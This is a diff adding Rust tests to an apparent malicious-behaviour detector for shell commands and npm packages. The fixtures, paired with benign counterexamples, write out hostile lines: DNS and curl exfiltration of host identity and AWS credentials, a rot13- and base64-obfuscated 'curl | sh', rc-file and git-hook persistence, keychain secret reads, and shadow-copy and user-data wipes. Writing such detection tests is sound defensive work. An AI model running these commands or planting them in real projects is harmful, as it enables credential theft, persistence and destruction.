@@ -264,6 +264,130 @@ fn miners_and_destruction() {
 }
 
 #[test]
+fn host_identity_sent_out_is_exfiltration() {
+    // Dependency-confusion probes: who installed it, sent in a URL or a DNS name.
+    has(
+        "curl -s \"https://cb.example.invalid/p?h=$(hostname)&u=$(whoami)\" >/dev/null 2>&1 || true",
+        K::SecretExfiltration,
+    );
+    has(
+        "ping -c 1 $( (hostname; whoami) | tr '\\n' . | xxd -p | cut -c1-50 ).probe.example.invalid",
+        K::SecretExfiltration,
+    );
+    let probe = "D=$(printf '%s' \"$(whoami)@$(hostname)\" | base64 | tr -d '=')\nnslookup \"$D.x.example.invalid\" || dig +short \"$D.x.example.invalid\"\n";
+    script_has(probe, Dialect::Bash, K::SecretExfiltration);
+    // Secrets chunked through a `while read` loop into DNS names.
+    let chunks = "cat ~/.aws/credentials | od -An -tx1 | tr -d ' \\n' | fold -w 60 | while read -r c; do\n  dig +short \"$c.e.example.invalid\"\ndone\n";
+    script_has(chunks, Dialect::Bash, K::SecretExfiltration);
+    // Platform names in download URLs, and host names printed, are not sent anywhere.
+    lacks(
+        "curl -fsSL https://dl.example.invalid/tool-$(uname -s)-$(uname -m).tar.gz | tar xz",
+        K::SecretExfiltration,
+    );
+    lacks(
+        "echo \"building on $(hostname)\" && ping -c 1 registry.example.invalid",
+        K::SecretExfiltration,
+    );
+}
+
+#[test]
+fn autoconf_cache_saving_is_not_an_environment_dump() {
+    // configure's cache save lists the shell's variables through sed.
+    let conf = "for ac_var in `(set) 2>&1 | sed -n 's/^\\([a-zA-Z_][a-zA-Z0-9_]*\\)=.*/\\1/p'`; do\n  eval ac_val=\\$$ac_var\ndone\n";
+    let f = analyze_script(conf, Dialect::Bash);
+    assert!(!kinds(&f).contains(&K::SecretRead), "{:?}", details(&f));
+    // The same listing sent out still is exfiltration.
+    has(
+        "set | curl -s -d @- https://c.example.invalid/e",
+        K::SecretExfiltration,
+    );
+}
+
+#[test]
+fn rot13_with_tr_is_a_decoder() {
+    let src =
+        "C=$(echo 'phey -s uggc://k.vainyvq/n | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m')\neval \"$C\"\n";
+    script_has(src, Dialect::Bash, K::DecodeExecute);
+    // Changing case is not decoding.
+    let case = analyze_script(
+        "N=$(echo \"$1\" | tr 'a-z' 'A-Z')\neval \"echo $N\"\n",
+        Dialect::Bash,
+    );
+    assert!(
+        !kinds(&case).contains(&K::DecodeExecute),
+        "{:?}",
+        details(&case)
+    );
+}
+
+#[test]
+fn for_loops_name_the_files_their_body_writes() {
+    let rc =
+        "for rc in \"$HOME/.bashrc\" \"$HOME/.zshrc\"; do\n  echo 'alias ls=x' >> \"$rc\"\ndone\n";
+    script_has(rc, Dialect::Bash, K::Persistence);
+    let profile =
+        "for f in ~/.zprofile; do printf 'export NODE_OPTIONS=--require x' >> \"$f\"; done\n";
+    script_has(profile, Dialect::Bash, K::Persistence);
+    let quiet = analyze_script(
+        "for f in a.txt b.txt; do cat \"$f\" >> out.txt; done\n",
+        Dialect::Bash,
+    );
+    assert!(
+        !kinds(&quiet).contains(&K::Persistence),
+        "{:?}",
+        details(&quiet)
+    );
+    has(
+        "security find-generic-password -w -s \"Chrome Safe Storage\"",
+        K::SecretRead,
+    );
+    // git hooks for every repository on the machine.
+    has(
+        "git config --global core.hooksPath ~/.config/hooks",
+        K::Persistence,
+    );
+    lacks("git config core.hooksPath .husky", K::Persistence);
+}
+
+#[test]
+fn user_data_and_recovery_wipes_are_destruction() {
+    has(
+        "rm -rf \"$HOME/Documents\" ~/Desktop 2>/dev/null",
+        K::Destruction,
+    );
+    has("rm -fr /home/ci-user", K::Destruction);
+    lacks("rm -rf $HOME/.cache/mytool ~/.npm/_cacache", K::Destruction);
+    lacks("rm -rf /home/runner/work/tmp", K::Destruction);
+    let wiper = "@echo off\r\nvssadmin delete shadows /all /quiet\r\n\
+                 del /s /q /f \"%USERPROFILE%\\Pictures\\*\"\r\n";
+    let f = script_has(wiper, Dialect::Batch, K::Destruction);
+    assert_eq!(
+        f.findings
+            .iter()
+            .filter(|f| f.kind == K::Destruction)
+            .count(),
+        2,
+        "{:?}",
+        details(&f)
+    );
+    script_has(
+        "bcdedit /set {default} recoveryenabled No\r\n",
+        Dialect::Batch,
+        K::Destruction,
+    );
+    script_has("cipher /w:C:\\Users\r\n", Dialect::Batch, K::Destruction);
+    let quiet = analyze_script(
+        "vssadmin list shadows\r\ncipher /e secret.txt\r\n",
+        Dialect::Batch,
+    );
+    assert!(
+        !kinds(&quiet).contains(&K::Destruction),
+        "{:?}",
+        details(&quiet)
+    );
+}
+
+#[test]
 fn script_files_run_are_returned() {
     let f = analyze_command("bash install.sh && node ./scripts/post.js --quiet");
     assert_eq!(f.runs, vec!["install.sh", "./scripts/post.js"]);
@@ -868,6 +992,126 @@ mod package {
                 a.behaviours
             );
         }
+    }
+
+    #[test]
+    fn a_project_npmrc_runs_what_it_names_at_install_time() {
+        let manifest = r#"{"name":"demo","version":"1.0.0"}"#;
+        // script-shell naming a shell script without an extension.
+        let a = npm(&[
+            ("package.json", manifest),
+            (".npmrc", "engine-strict=true\nscript-shell=./tools/wrap\n"),
+            ("tools/wrap", DROPPER),
+        ]);
+        assert_eq!(
+            found(&a, "tools/wrap", K::DownloadExecute),
+            Some(Context::Install),
+            "{:?}",
+            a.behaviours
+        );
+        // node-options preloading a base64 data: URL module: decoded and read.
+        // `require('child_process').execSync('curl http://payload.invalid/x | sh')`
+        let module = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjdXJsIGh0dHA6Ly9wYXlsb2FkLmludmFsaWQveCB8IHNoJyk=";
+        let rc = format!("node-options=--import=data:text/javascript;base64,{module}\n");
+        let a = npm(&[("package.json", manifest), (".npmrc", &rc)]);
+        assert_eq!(
+            found(&a, ".npmrc", K::DecodeExecute),
+            Some(Context::Install)
+        );
+        assert_eq!(
+            found(&a, ".npmrc", K::DownloadExecute),
+            Some(Context::Install)
+        );
+        // npm reads no .npmrc but the project's: one in a subfolder runs nothing.
+        let a = npm(&[
+            ("package.json", manifest),
+            ("template/.npmrc", "script-shell=./tools/wrap\n"),
+            ("tools/wrap", DROPPER),
+        ]);
+        assert_eq!(found(&a, "tools/wrap", K::DownloadExecute), None);
+        // Harmless settings name nothing to run.
+        let a = npm(&[
+            ("package.json", manifest),
+            (".npmrc", "script-shell=bash\nsave-exact=true\n"),
+        ]);
+        assert!(a.behaviours.is_empty(), "{:?}", a.behaviours);
+    }
+
+    #[test]
+    fn secrets_handed_to_a_function_that_sends_its_arguments() {
+        let manifest = r#"{"name":"demo","version":"1.0.0","description":"d","main":"index.js"}"#;
+        let send = "const https = require('https');\nexports.report = function (payload) {\n  const r = https.request({ host: 'c.example.invalid', method: 'POST' });\n  r.end(JSON.stringify(payload));\n};\n";
+        let caller = "const { report } = require('./lib/report');\nreport({ env: process.env });\n";
+        let a = npm(&[
+            ("package.json", manifest),
+            ("index.js", caller),
+            ("lib/report.js", send),
+        ]);
+        assert_eq!(
+            found(&a, "index.js", K::SecretExfiltration),
+            Some(Context::Import),
+            "{:?}",
+            a.behaviours
+        );
+        // The same function handed something else, and a sender of constant data handed
+        // secrets: nothing is sent that should not be.
+        let harmless =
+            "const { report } = require('./lib/report');\nreport({ version: '1.0.0' });\n";
+        let a = npm(&[
+            ("package.json", manifest),
+            ("index.js", harmless),
+            ("lib/report.js", send),
+        ]);
+        assert_eq!(
+            found(&a, "index.js", K::SecretExfiltration),
+            None,
+            "{:?}",
+            a.behaviours
+        );
+        let constant = "const https = require('https');\nexports.report = function (payload) {\n  https.request({ host: 'c.example.invalid', method: 'POST' }).end('ping');\n};\n";
+        let a = npm(&[
+            ("package.json", manifest),
+            ("index.js", caller),
+            ("lib/report.js", constant),
+        ]);
+        assert_eq!(
+            found(&a, "index.js", K::SecretExfiltration),
+            None,
+            "{:?}",
+            a.behaviours
+        );
+    }
+
+    #[test]
+    fn a_shell_script_bin_runs_when_its_command_does() {
+        let manifest =
+            r#"{"name":"demo","version":"1.0.0","description":"d","bin":{"node":"bin/node"}}"#;
+        let a = npm(&[("package.json", manifest), ("bin/node", DROPPER)]);
+        assert_eq!(
+            found(&a, "bin/node", K::DownloadExecute),
+            Some(Context::Import),
+            "{:?}",
+            a.behaviours
+        );
+        // A script nothing names stays unread.
+        let manifest = r#"{"name":"demo","version":"1.0.0","description":"d"}"#;
+        let a = npm(&[("package.json", manifest), ("bin/node", DROPPER)]);
+        assert_eq!(found(&a, "bin/node", K::DownloadExecute), None);
+    }
+
+    #[test]
+    fn a_bin_without_extension_is_read_by_its_first_line() {
+        let manifest =
+            r#"{"name":"demo","version":"1.0.0","description":"d","bin":{"demo":"bin/demo"}}"#;
+        let bin = "#!/usr/bin/env node\nrequire('child_process').execSync('curl -s http://payload.invalid/a | sh');\n";
+        let a = npm(&[("package.json", manifest), ("bin/demo", bin)]);
+        assert!(
+            a.behaviours
+                .iter()
+                .any(|b| b.path.ends_with("bin/demo") && b.kind == K::DownloadExecute),
+            "{:?}",
+            a.behaviours
+        );
     }
 }
 
